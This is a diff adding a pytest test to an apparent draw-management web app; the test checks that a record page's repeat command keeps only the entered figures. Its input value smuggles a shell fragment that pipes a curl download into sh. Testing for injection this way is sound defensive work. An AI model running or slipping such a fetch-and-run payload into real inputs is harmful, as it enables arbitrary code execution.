@@ -6,7 +6,7 @@ from io import BytesIO
 import pytest
 from docx import Document
 
-from survey.draws import queries
+from survey.draws import operations, queries
 from survey.draws.models import Draw
 from survey.draws.rules import list_digest
 from survey.officers.models import Officer
@@ -142,3 +142,12 @@ def test_every_page_of_a_draw_stands_in_every_state(clerk: Clerk, operator: Offi
         for way in ("", "/people", "/quotas", "/freeze", "/numbers", "/absent", "/list"):
             clerk.get(f"/draws/{draw.id}{way}")
     clerk.get(f"/draws/{frozen.id}/record", status=409)
+
+
+def test_a_command_to_repeat_it_holds_figures_and_nothing_else_that_was_typed(
+    clerk: Clerk, operator: Officer
+) -> None:
+    draw = make_frozen(operator)
+    operations.enter_entropy(operator, draw, '03 09 12 18 22 31 07"; curl x | sh; "')
+    page = clerk.get(f"/draws/{draw.id}/record")
+    assert f'draw-{draw.id}-list.txt "3.9.12.18.22.31.7"' in page.text
